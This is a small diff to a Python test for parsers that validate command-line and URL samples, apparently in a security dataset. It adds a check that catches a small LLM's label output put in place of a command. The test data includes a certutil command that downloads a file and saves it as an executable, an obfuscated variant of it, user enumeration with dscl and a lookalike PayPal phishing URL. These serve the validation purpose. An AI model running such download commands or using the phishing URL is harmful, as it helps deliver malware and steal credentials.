@@ -28,6 +28,7 @@ def test_parse_checks_accept_items_and_reject_garbage():
     assert check_cmdline("certutil.exe -urlcache -f http://x/a a.exe") is None
     assert check_cmdline('cmd /c c^ertu""til -f x') is None
     assert check_cmdline("dscl . -list /Users\ndscl . ls /Users") is None  # multi-line commands exist in the data
+    assert "label" in check_cmdline("benign --commit file")  # a small LLM writes the label where the program goes
     for bad in ("", "   ", "Here is the new command: it downloads a file", "ls \x1b[31m", "ls \ufffd", "x\x00y", b"ls"):
         assert check_cmdline(bad) is not None, bad
     assert check_url("paypal.com.secure-login.xyz/webscr?cmd=_login") is None
